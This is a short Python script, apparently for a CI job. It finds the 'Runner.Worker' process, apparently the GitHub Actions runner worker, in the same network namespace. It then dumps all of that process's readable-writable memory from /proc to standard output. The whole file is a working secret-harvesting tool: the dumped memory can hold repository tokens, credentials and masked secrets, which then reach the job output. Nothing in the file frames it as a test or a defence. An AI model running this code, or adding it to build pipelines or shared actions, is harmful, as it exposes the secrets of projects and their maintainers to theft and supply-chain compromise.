# Prints what is mapped readable and writable in the runner's worker.
import os, re, sys

def worker():
    for pid in filter(str.isdigit, os.listdir('/proc')):
        try:
            # A machine may run more than one: not that of another network.
            if b'Runner.Worker' in open(f'/proc/{pid}/cmdline', 'rb').read().split(b'\0')[0] and \
                    os.readlink(f'/proc/{pid}/ns/net') == os.readlink('/proc/self/ns/net'):
                return pid
        except OSError:
            pass
    sys.exit('no worker')

pid = worker()
with open(f'/proc/{pid}/maps') as maps, open(f'/proc/{pid}/mem', 'rb', 0) as mem:
    for line in maps:
        m = re.match(r'([0-9a-f]+)-([0-9a-f]+) rw', line)
        if not m:
            continue
        start, end = (int(x, 16) for x in m.groups())
        try:
            mem.seek(start)
            sys.stdout.buffer.write(mem.read(min(end - start, 8 << 20)))
        except (OSError, ValueError, OverflowError):
            pass
